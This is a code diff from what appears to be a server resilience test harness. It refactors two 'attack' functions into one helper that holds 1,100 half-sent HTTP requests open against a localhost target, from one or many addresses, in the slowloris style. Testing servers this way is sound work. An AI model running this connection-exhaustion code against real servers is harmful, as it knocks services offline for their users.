@@ -17,29 +17,22 @@ BROKEN = (OSError, WebSocketException)
 
 @attack("1,100 half-sent requests from one address, made again when they are closed")
 def half_requests(target: Target) -> str:
-    held: list[socket.socket] = []
-    made = 0
-    while target.left > 0:
-        while len(held) < 1100 and target.left > 0:
-            with contextlib.suppress(OSError):
-                line = target.line()
-                line.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ")
-                line.setblocking(False)
-                held.append(line)
-            made += 1
-        held = [line for line in held if open_still(line)]
-        time.sleep(0.2)
-    return f"{made:,} made, {len(held):,} held at the end"
+    return half_sent(target, addresses=1)
 
 
 @attack("1,100 half-sent requests, each from an address of its own")
 def half_requests_of_many(target: Target) -> str:
+    return half_sent(target, addresses=1100)
+
+
+def half_sent(target: Target, addresses: int) -> str:
+    """Hold 1,100 requests that are sent by half, from so many addresses in turn, until the time is over."""
     held: list[socket.socket] = []
     made = 0
     while target.left > 0:
         while len(held) < 1100 and target.left > 0:
             with contextlib.suppress(OSError):
-                line = target.line(made % 1100)
+                line = target.line(made % addresses)
                 line.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ")
                 line.setblocking(False)
                 held.append(line)
